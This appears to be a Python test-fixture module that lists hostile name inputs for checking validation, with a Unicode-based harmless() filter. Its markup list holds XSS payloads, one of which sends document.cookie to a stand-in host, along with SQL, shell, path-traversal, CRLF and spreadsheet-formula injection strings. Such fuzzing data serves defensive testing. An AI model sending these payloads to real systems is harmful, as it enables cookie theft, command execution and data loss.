"""Three hundred hostile names, and a few unusual ones that are fine."""

from __future__ import annotations

from typing import Final
from unicodedata import category

_MARKUP: Final = (
    "<b>x</b>", "<i>", "</p>", "<!--", "-->", "<![CDATA[", "<?php ?>", "<script>x()</script>", "<script src=//x>",
    "<img src=x onerror=x()>", "<svg onload=x()>", "<svg/onload=x()>", '"><svg onload=x()>', "'><svg onload=x()>",
    "<iframe srcdoc=x>", "<a href=javascript:x>", "<base href=//x>", "<link rel=x href=//x>", "<meta refresh>",
    "<style>*{x:y}</style>", "<form action=//x>", "<input autofocus>", "<details open>", "<math><mi>x",
    "<template><b>", "<noscript><b>", "<textarea>", "<title>x</title>", "<plaintext>", "<xmp>", "<bdo dir=rtl>x",
    "<body onload=x()>", "<marquee>x", "<object data=//x>", "<embed src=//x>", "<video onerror=x()>",
    "<SCRIPT>x()</SCRIPT>", "<ScRiPt>x()</sCrIpT>", "< script>x()", "<script\t>x()", "<script/x>x()", "<<script>x()",
    "<script>alert(document.cookie)</script>", "<img src=x onerror=alert(document.domain)>",
    "<img src='x' onerror='fetch(`//x/${document.cookie}`)'>", "%3Cscript%3Ex()%3C/script%3E",
    "\\u003cscript\\u003e", "&lt;script&gt;", "&#60;script&#62;", "&#x3c;b&#x3e;", "&amp;lt;b", "&nbsp;", "&", "<", ">",
    '"', "'", "`", "\\", "/", "javascript:x()", "data:text/html,<b>x", "vbscript:x", "onerror=x()", "\" onfocus=x() \"",
    "' onfocus=x() '", "{@html x}", "{#if x}{/if}", "{x}", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{ $name }",
    '{ "x" }', "{ -brand }", "{ NUMBER(1) }", "[[x]]", "%s%s%n", "%(name)s", "{0.__class__}", "$(reboot)", "`reboot`",
    "; reboot", "| reboot", "&& reboot", "'; DROP TABLE x;--", '" OR 1=1 --', "x' UNION SELECT 1", "../../etc/passwd",
    "..\\..\\boot.ini", "file:///etc/passwd", "=1+1", "@SUM(A1)", "+cmd|' /C x'!A0", "-2+3", '","m":"ok', '{"m":"ok"}',
    "null", "undefined", "NaN", "true", "0", "-1", "1e309", "[object Object]", "__proto__", "constructor", "toString",
    "hasOwnProperty", "__class__", "None", "nil", "CON", "NUL", "\\0", "\\x00", "\\r\\n", "%00", "%0d%0aX: y",
)  # fmt: skip

_INVISIBLE: Final = tuple(
    map(
        chr,
        (
            *(0x00AD, 0x034F, 0x061C, 0x115F, 0x1160, 0x17B4, 0x17B5, 0x180E, 0x200B, 0x200C, 0x200D, 0x200E, 0x200F),
            *(0x2028, 0x2029, 0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2060, 0x2061, 0x2062, 0x2063, 0x2064),
            *(0x2066, 0x2067, 0x2068, 0x2069, 0x206A, 0x206F, 0x2800, 0x3164, 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFB),
            *(0xE0001, 0xE0041, 0xE007F, 0x1D173),
        ),
    )
)
"""Fillers, joiners, and what turns the direction of everything after it."""

_CODES: Final = tuple(map(chr, (*range(0x20), 0x7F, *range(0x80, 0xA0))))
_NO_CHARACTERS: Final = (
    "\ud800",
    "\udfff",
    "\ud83d",
    "\ufffe",
    "\uffff",
    "\U0001fffe",
    "\U0010ffff",
    "\ue000",
    "\uf8ff",
)
_BLANKS: Final = ("", " ", "\u00a0", "\u2003", "\u202f", "\u205f", "\u3000", "\u1680", "\t", "\n", "\r\n", " \u00a0 ")
_TOWERS: Final = (
    "Z" + "\u0334" * 5,
    "a" + "\u0301" * 23,
    "\u0301",
    "\u20dd\u20dd",
    "\ufe0f",
    "o" + "\u0489" * 9,
    "\u0e47" * 9,
)
_LONG: Final = (
    "x" * 25,
    "ä" * 30,
    "🎲" * 25,
    "x " * 500,
    "<b>" * 4000,
    "\u202e" * 5000,
    "x" * 1_000_000,
    "😀" * 250_000,
)
_EMOJI: Final = (
    "🎲", "👍🏽", "🇩🇪", "❤\ufe0f", "1\ufe0f\u20e3", "👨\u200d👩\u200d👧", "🏴\u200d☠\ufe0f", "👩🏿\u200d🚀", "🫠", "𓂀",
    "﷽", "꧁x꧂", "‽", "Ａｎｎａ", "𝓐𝓷𝓷𝓪", "Аnnа", "ﬁ", "ß", "İ", "ı", "ŉ", "ᾳ", "שלום (3)", "مرحبا 3",
    "a שלום b", "ދިވެހި", "𞤀𞤣𞤤𞤢𞤥",
)  # fmt: skip

HOSTILE: Final = tuple(
    dict.fromkeys(
        (
            *_MARKUP,
            *(f"a{mark}b" for mark in _INVISIBLE),
            *(f"{mark}ab" for mark in _INVISIBLE[:16]),
            *(f"a{code}b" for code in _CODES),
            *_NO_CHARACTERS,
            *_BLANKS,
            *_TOWERS,
            *_LONG,
            *_EMOJI,
        )
    )
)


def harmless(name: str) -> bool:
    """Whether a name is a short line of visible text: an independent check by Unicode categories."""
    if not 1 <= len(name) <= 24 or name != name.strip():
        return False
    if any(mark in _INVISIBLE for mark in name):
        return False
    return all(mark == " " or category(mark)[0] in "LMNPS" for mark in name)
